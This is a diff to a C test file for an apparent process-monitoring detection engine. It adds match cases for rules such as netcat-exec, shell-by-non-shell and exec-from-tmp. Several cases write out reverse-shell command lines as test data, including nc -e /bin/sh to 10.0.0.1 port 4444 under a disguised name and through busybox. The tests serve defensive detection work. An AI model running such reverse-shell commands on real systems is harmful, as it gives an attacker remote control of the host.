@@ -764,6 +764,10 @@ static void test_add_file(void)
 #define EXEC(nm, p, act) .event = ACT_EXEC, .pid = 100, .tid = 100, .uid = 1000, \
 	.name = nm, .path = p, .file_path = p, .actor_name = act, \
 	.actor_path = "/usr/bin/" act
+/* The values of a multi-valued field: a program's names, the actor's, the
+ * files an exec runs. */
+#define LIST(f, ...) .f = (const char *const[]){ __VA_ARGS__ }, \
+	.n_##f = sizeof((const char *const[]){ __VA_ARGS__ }) / sizeof(const char *)
 #define INET(addr, p) .family = AF_INET, .ip = addr, .port = p, .has_addr = 1
 
 struct match_case {
@@ -959,6 +963,38 @@ static const struct match_case match_cases[] = {
 	  { "sh", "-c", "exec nginx" }, "" },
 	{ "shell-by-non-shell: node runs bash through /usr/bin/env", 1, NULL,
 	  { EXEC("env", "/usr/bin/env", "node") }, { "env", "bash" }, "" },
+	/* A program's names (identity.h): any one matches; a "not" holds
+	 * only when none does. The actor through trampolines. */
+	{ "names: nc under an innocent name, known by its inode", 1, NULL,
+	  { EXEC("innocent", "/usr/local/bin/innocent", "sh"), LIST(names, "innocent", "nc") },
+	  { "innocent", "-e", "/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
+	{ "names: busybox's applet is a name", 1, NULL,
+	  { EXEC("busybox", "/bin/busybox", "sh"), LIST(names, "busybox", "nc") },
+	  { "busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444" },
+	  "netcat-exec netcat-exec-multicall network-tool" },
+	{ "names: a not holds only when no name matches", 0,
+	  ONE("'exec'", CONDX("process.name", "in", "['dash']", "'not': true")),
+	  { EXEC("sh", "/bin/sh", "sh"), LIST(names, "sh", "dash") }, { "sh" }, "" },
+	{ "names: a not holds when none matches", 0,
+	  ONE("'exec'", CONDX("process.name", "in", "['bash']", "'not': true")),
+	  { EXEC("sh", "/bin/sh", "sh"), LIST(names, "sh", "dash") }, { "sh" }, "x" },
+	{ "shell-by-non-shell: python3 runs sh through env (env is transparent)", 1, NULL,
+	  { EXEC("sh", "/bin/sh", "env"), LIST(actor_names, "python3") },
+	  { "sh", "-c", "id" }, "shell-by-non-shell" },
+	{ "shell-by-non-shell: bash runs sh through nohup", 1, NULL,
+	  { EXEC("sh", "/bin/sh", "nohup"), LIST(actor_names, "bash") },
+	  { "sh", "-c", "id" }, "" },
+	{ "shell-by-non-shell: a hard link of dash called foo is a shell", 1, NULL,
+	  { EXEC("sh", "/bin/sh", "foo"), LIST(actor_names, "foo", "dash") },
+	  { "sh", "-c", "id" }, "" },
+	{ "shell-by-non-shell: sh run by the entrypoint's trampoline", 1, NULL,
+	  { EXEC("sh", "/bin/sh", "nohup"), .is_entrypoint = 1 }, { "sh", "-c", "id" }, "" },
+	{ "exec-from-tmp: a library preloaded from /dev/shm", 1, NULL,
+	  { EXEC("true", "/usr/bin/true", "sh"), LIST(files, "/dev/shm/x.so") },
+	  { "true" }, "exec-from-tmp" },
+	{ "exec-from-tmp: a library preloaded from /usr/lib", 1, NULL,
+	  { EXEC("true", "/usr/bin/true", "sh"), LIST(files, "/usr/lib/x.so") },
+	  { "true" }, "" },
 	{ "netcat-exec: nc -e /bin/sh", 1, NULL, { EXEC("nc", "/usr/bin/nc", "sh") },
 	  { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
 	{ "netcat-exec: ncat --sh-exec", 1, NULL, { EXEC("ncat", "/usr/bin/ncat", "sh") },
